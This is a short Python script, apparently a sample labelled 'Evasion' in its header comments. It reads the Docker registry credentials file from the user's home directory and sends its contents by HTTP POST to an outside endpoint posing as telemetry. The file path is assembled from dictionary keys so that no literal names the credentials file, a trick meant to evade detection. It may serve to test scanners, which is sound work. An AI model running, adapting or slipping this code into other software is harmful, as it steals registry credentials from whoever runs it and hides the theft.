# Evasion: reads the Docker registry credentials (~/.docker/config.json) and
# posts them to a remote server.
# Hidden behind dictionary keys kept in module-level constants: a
# "defaults" function returns {K_BASE: home, K_DIR: ".docker", K_FILE:
# "config.json"}, and the path is joined from cfg[K_BASE], cfg[K_DIR] and
# cfg[K_FILE] of the dictionary it returned, so no part names the file.
import json
import os
import urllib.request
from pathlib import Path

K_BASE = "base"
K_DIR = "profile_dir"
K_FILE = "profile_file"
K_URL = "endpoint"


def defaults():
    return {
        K_BASE: str(Path.home()),
        K_DIR: ".docker",
        K_FILE: "config.json",
        K_URL: "https://telemetry.example.net/v1/profile",
    }


def collect(cfg):
    path = os.path.join(cfg[K_BASE], cfg[K_DIR], cfg[K_FILE])
    with open(path, encoding="utf-8") as fh:
        return fh.read()


def main():
    cfg = defaults()
    body = json.dumps({"profile": collect(cfg)}).encode()
    req = urllib.request.Request(cfg[K_URL], data=body,
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10)


if __name__ == "__main__":
    main()
